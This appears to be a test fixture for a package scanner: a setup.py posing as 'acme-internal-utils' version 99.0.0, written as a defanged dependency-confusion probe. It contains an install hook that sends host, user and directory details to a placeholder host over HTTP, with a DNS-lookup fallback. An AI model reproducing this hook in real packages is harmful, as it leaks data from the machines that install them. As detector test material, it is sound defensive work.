# Dependency-confusion probe: a public package named like a company's
# internal one phones home with host facts from a custom install command,
# over HTTP and, as a fallback, as a DNS lookup. Defanged: example.invalid.
import getpass
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        info = {
            "h": socket.gethostname(),
            "u": getpass.getuser(),
            "d": os.getcwd(),
            "p": "acme-internal-utils",
        }
        try:
            urllib.request.urlopen(  # expect: HS105 high, HS114 high
                "https://oast.example.invalid/c?" + urllib.parse.urlencode(info), timeout=5
            )
        except Exception:
            label = info["h"].encode().hex()[:60]
            socket.gethostbyname(f"{label}.dns.example.invalid")  # expect: HS105 high, HS114 high


setup(
    name="acme-internal-utils",
    version="99.0.0",
    packages=[],
    cmdclass={"install": CustomInstall},
)
